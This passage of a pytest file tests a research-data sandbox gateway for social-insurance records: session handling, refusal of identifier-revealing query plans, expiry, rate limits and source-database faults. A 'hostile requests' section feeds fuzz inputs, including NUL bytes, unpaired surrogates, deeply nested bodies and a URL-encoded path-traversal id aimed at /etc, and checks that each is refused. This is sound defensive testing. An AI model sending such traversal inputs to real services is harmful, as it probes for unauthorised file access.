    assert response.status_code == 500, response.text
    error = response.json()["error"]
    assert error["code"] == "INTERNAL" and error.get("reference")
    assert "crashing" not in response.text and "Traceback" not in response.text
    [record] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_QUERY"]
    assert (record.outcome, record.error_code) == ("DENIED", "INTERNAL")
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    assert _query_process_pid(world, session_id) != pid


def test_a_query_nested_too_deeply_is_bad_input(researcher, session_id):
    response = researcher.query(session_id, "SELECT " + " + ".join(["1"] * 90) + " AS n")
    assert response.status_code == 400, response.text
    assert response.json()["error"]["code"] == "BAD_INPUT"
    assert "nested too deeply" in response.json()["error"]["message"]
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200


def test_explain_of_a_query_reading_an_identifier_is_refused(world):
    """A plan can print a column's statistics (a numeric identifier's smallest value)."""
    gw, client = world
    name = "sandbox-test-id-analyst"
    approved_researcher(gw, name, "91440607MA4X4YK03", ["idNumber", "district"])
    analyst = Sandbox(client, gw, name)
    opened = analyst.open()
    assert opened.status_code == 201, opened.text
    try:
        refused = analyst.query(opened.json()["id"],
                                "EXPLAIN SELECT count(DISTINCT idNumber) FROM socialInsurance")
        assert refused.status_code == 403, refused.text
        error = refused.json()["error"]
        assert error["code"] == "OUTPUT_CHECK_FAILED" and "identifier" in error["failedChecks"]
        assert "rows" not in refused.json() and "physical_plan" not in refused.text
        plan = analyst.query(opened.json()["id"], "EXPLAIN SELECT district, count(*) FROM socialInsurance GROUP BY 1")
        assert plan.status_code == 200 and plan.json()["rows"]
    finally:
        analyst.close(opened.json()["id"])


# --- hostile requests (found by tests/test_rest_fuzz.py) --------------------------------------

def test_a_nul_character_in_a_request_is_bad_input_and_stores_nothing(world, researcher, session_id):
    gw, client = world
    with gw.services.store() as session:
        releases = session.scalar(sa.select(sa.func.count()).select_from(SandboxRelease))
    for response in (researcher.release(session_id, SMALL_GROUPS, "why\x00"),
                     researcher.release(session_id, SMALL_GROUPS + " -- \x00"),
                     researcher.query(session_id, BY_DISTRICT + " -- \x00"),
                     client.get("/sandbox/releases", params={"box": "OUTBOX", "status": "P\x00"},
                                headers=researcher.headers)):
        assert response.status_code == 400, response.text
        assert response.json()["error"]["code"] == "BAD_INPUT" and "NUL" in response.json()["error"]["message"]
    with gw.services.store() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(SandboxRelease)) == releases


@pytest.mark.parametrize("raw", [b"[" * 5000 + b"]" * 5000, b'{"sql": "\\ud800"}',
                                 b'{"sql": "SELECT 1 -- \\udc00"}'], ids=["deep", "surrogate", "low-surrogate"])
def test_a_body_too_deep_or_with_an_unpaired_surrogate_is_bad_input(world, researcher, session_id, raw):
    gw, client = world
    for headers in (researcher.headers, {}):
        response = client.post(f"/sandbox/sessions/{session_id}/query", content=raw,
                               headers={**headers, "Content-Type": "application/json"})
        assert response.status_code == 400, response.text
        assert response.json()["error"]["code"] == "BAD_INPUT"


@pytest.mark.parametrize("session_path", ["a%00b", "..%2F..%2Fetc", "x" * 200, "%E2%80%AE" * 20])
def test_a_session_id_that_is_no_session_id_is_not_found(researcher, session_path):
    response = researcher.client.get(f"/sandbox/sessions/{session_path}", headers=researcher.headers)
    assert response.status_code == 404, response.text
    assert response.json()["error"]["code"] == "NOT_FOUND"


@pytest.mark.parametrize("method,path,status", [
    ("GET", "/sandbox/releases/1/nowhere", 404), ("GET", "/sandbox/nowhere", 404),
    ("PUT", "/sandbox/sessions", 405), ("POST", "/open/datasets", 405),
])
def test_routing_refusals_are_json_like_every_other_refusal(world, method, path, status):
    response = world[1].request(method, path)
    assert response.status_code == status
    assert response.headers["content-type"].startswith("application/json")
    error = response.json()["error"]
    assert error["code"] == ("NOT_FOUND" if status == 404 else "BAD_REQUEST") and error["message"]
    if status == 405:
        assert response.headers["allow"]


@pytest.mark.parametrize("release_path", [
    "abc", "1e3", "-1", "9" * 40, "%00", "%D9%A3", "x" * 300,  # not an id
    "2147483648", "9223372036854775808", "9" * 30, "9" * 5000,  # digits no store can hold
])
def test_a_release_id_that_is_no_release_id_is_not_found_and_audited(world, researcher, release_path):
    gw, client = world
    steward = Sandbox(client, gw, "renshe-steward")
    before = last_audit_id(gw)
    fetched = client.get(f"/sandbox/releases/{release_path}", headers=researcher.headers)
    decided = client.post(f"/sandbox/releases/{release_path}/decision", json={"approve": True},
                          headers=steward.headers)
    for response in (fetched, decided):
        assert response.status_code == 404, response.text
        assert response.json()["error"]["code"] == "NOT_FOUND"
        if not release_path.isdigit():
            assert "whole numbers" in response.json()["error"]["message"]
    [fetch] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_RELEASE_FETCH"]
    [decision] = [r for r in audit_since(gw, before, principal="renshe-steward")
                  if r.action == "SANDBOX_RELEASE_DECISION"]
    for record in (fetch, decision):
        assert (record.outcome, record.error_code) == ("DENIED", "NOT_FOUND")
        assert record.detail.startswith("release ") and len(record.detail) < 80
    # without a token the id is not even read
    anonymous = client.get(f"/sandbox/releases/{release_path}")
    assert anonymous.status_code == 401 and anonymous.json()["error"]["code"] == "UNAUTHENTICATED"


# --- other principals, closing, expiry -------------------------------------------------------

def test_another_principal_cannot_use_the_session(world, session_id):
    gw, client = world
    other = Sandbox(client, gw, OTHER)
    before = last_audit_id(gw)
    for response in (other.query(session_id, BY_DISTRICT), other.release(session_id, SMALL_GROUPS),
                     other.close(session_id),
                     client.get(f"/sandbox/sessions/{session_id}", headers=other.headers)):
        assert response.status_code == 404 and response.json()["error"]["code"] == "NOT_FOUND"
    denied = audit_since(gw, before, principal=OTHER)
    assert {r.action for r in denied} >= {"SANDBOX_QUERY", "SANDBOX_CLOSE"}
    assert all(r.outcome == "DENIED" and r.error_code == "NOT_FOUND" for r in denied)
    unknown = Sandbox(client, gw, "researcher").query("no-such-session", BY_DISTRICT)
    assert unknown.status_code == 404


def test_the_other_principal_sees_only_its_own_fields(world, other_session):
    columns = {c["name"] for c in other_session["tables"][0]["columns"]}
    assert columns == {"district", "insuranceType"}
    response = Sandbox(world[1], world[0], OTHER).query(
        other_session["id"], "SELECT avg(monthlyBase) FROM socialInsurance")
    assert response.status_code == 400 and "monthlyBase" in response.json()["error"]["message"]


def test_closing_deletes_the_files_and_ends_the_session(world, researcher):
    gw, _ = world
    body = researcher.open().json()
    folder = Path(gw.settings.sandbox_dir) / body["id"]
    assert (folder / "data.duckdb").exists()
    assert researcher.close(body["id"]).status_code == 204
    assert not folder.exists()
    after = researcher.query(body["id"], BY_DISTRICT)
    assert after.status_code == 404 and "closed" in after.json()["error"]["message"]
    with gw.services.store() as session:
        assert session.get(SandboxSessionRecord, body["id"]).closed_at is not None


def test_an_expired_session_is_session_expired_and_its_files_are_gone(world, researcher):
    gw, client = world
    body = researcher.open().json()
    folder = Path(gw.settings.sandbox_dir) / body["id"]
    later = gw.settings.clock + dt.timedelta(minutes=gw.settings.sandbox_ttl_minutes, seconds=1)
    # another gateway process on the same store, its clock past the expiry
    elsewhere = Gateway(gw.settings.with_(clock=later))
    try:
        with TestClient(create_app(elsewhere.settings, elsewhere)) as other_client:
            there = Sandbox(other_client, elsewhere, "researcher").query(body["id"], BY_DISTRICT)
            assert there.status_code == 410 and there.json()["error"]["code"] == "SESSION_EXPIRED"
            assert "Open a new session" in there.json()["error"]["message"]
    finally:
        elsewhere.close()
    # the process holding it, once its clock passes the expiry: refused and removed
    clock = gw.services.clock
    gw.services.clock = type(clock)(later)
    try:
        here = researcher.query(body["id"], BY_DISTRICT)
        assert here.status_code == 410 and here.json()["error"]["code"] == "SESSION_EXPIRED"
        assert not folder.exists()
        assert researcher.query(body["id"], BY_DISTRICT).status_code == 410
    finally:
        gw.services.clock = clock


def test_too_many_open_sessions_is_rate_limited(world):
    gw, client = world
    other = Sandbox(client, gw, OTHER)
    opened = []
    try:
        while True:
            response = other.open()
            if response.status_code != 201:
                break
            opened.append(response.json()["id"])
            assert len(opened) <= SANDBOX_SETTINGS["sandbox_max_sessions"]
        assert response.status_code == 429 and response.json()["error"]["code"] == "RATE_LIMITED"
        assert response.headers["Retry-After"]
    finally:
        for session_id in opened:
            other.close(session_id)


def test_a_suspended_application_closes_the_session(world):
    gw, client = world
    name = "sandbox-test-suspended"
    app = approved_researcher(gw, name, "91440606MA4X3YK02", ["district"])
    with gw.services.store() as session:
        authority = load_caller(session, "shuju-admin")
    analyst = Sandbox(client, gw, name)
    body = analyst.open().json()
    assert analyst.query(body["id"], BY_DISTRICT).status_code == 200
    applications.suspend(gw.services, authority, app.id, "承诺未履行")
    response = analyst.query(body["id"], BY_DISTRICT)
    assert response.status_code == 403 and response.json()["error"]["code"] == "FORBIDDEN_DATASET"
    assert "suspended" in response.json()["error"]["message"]
    assert not (Path(gw.settings.sandbox_dir) / body["id"]).exists()
    again = analyst.open()
    assert again.status_code == 403 and again.json()["error"]["reason"] == "APPLICATION_SUSPENDED"


def test_the_shared_test_gateway_still_serves_graphql(api):
    body = api("minzheng-app").query('{ me { principal } }')
    assert body["data"]["me"]["principal"] == "minzheng-app"
    assert PEOPLE and PURPOSE



def test_a_source_value_its_field_type_cannot_hold_is_refused_naming_the_field(world, researcher,
                                                                                demo_source_urls):
    """A text where the catalog says DATE: opening a session is SOURCE_UNAVAILABLE naming the
    field and quoting no value, audited, not INTERNAL; put right, sessions open again (every
    path and MariaDB's zero date: tests/test_sandbox_snapshots.py)."""
    gw, client = world
    engine = sa.create_engine(demo_source_urls["renshe-db"])
    try:
        with engine.begin() as conn:
            key, since = conn.execute(sa.text("SELECT id_number, since FROM social_insurance LIMIT 1")).one()
            conn.execute(sa.text("UPDATE social_insurance SET since = 'soon-0042' WHERE id_number = :k"), {"k": key})
        try:
            before = last_audit_id(gw)
            response = researcher.open()
            assert response.status_code == 503, response.text
            error = response.json()["error"]
            assert error["code"] == "SOURCE_UNAVAILABLE" and "field since" in error["message"], error
            assert "soon-0042" not in response.text and "Traceback" not in response.text
            [record] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_OPEN"]
            assert (record.outcome, record.error_code) == ("DENIED", "SOURCE_UNAVAILABLE")
        finally:
            with engine.begin() as conn:
                conn.execute(sa.text("UPDATE social_insurance SET since = :s WHERE id_number = :k"),
                             {"s": since, "k": key})
    finally:
        engine.dispose()
    opened = researcher.open()
    assert opened.status_code == 201, opened.text
    researcher.close(opened.json()["id"])

def test_a_snapshot_of_a_table_gone_from_its_source_is_refused_as_such(world, researcher, demo_source_urls):
    """The source table renamed after it was registered: opening a session is
    SOURCE_UNAVAILABLE saying the source lacks what the catalog names, audited; put back,
    sessions open again."""
    gw, client = world
    engine = sa.create_engine(demo_source_urls["renshe-db"])
    try:
        with engine.begin() as conn:
            conn.execute(sa.text("ALTER TABLE social_insurance RENAME TO social_insurance_old"))
        try:
            before = last_audit_id(gw)
            response = researcher.open()
            assert response.status_code == 503, response.text
            error = response.json()["error"]
            assert error["code"] == "SOURCE_UNAVAILABLE" and "no table or column" in error["message"]
            assert "no such table" not in response.text
            [record] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_OPEN"]
            assert (record.outcome, record.error_code) == ("DENIED", "SOURCE_UNAVAILABLE")
        finally:
            with engine.begin() as conn:
                conn.execute(sa.text("ALTER TABLE social_insurance_old RENAME TO social_insurance"))
    finally:
        engine.dispose()
    opened = researcher.open()
    assert opened.status_code == 201, opened.text
    researcher.close(opened.json()["id"])
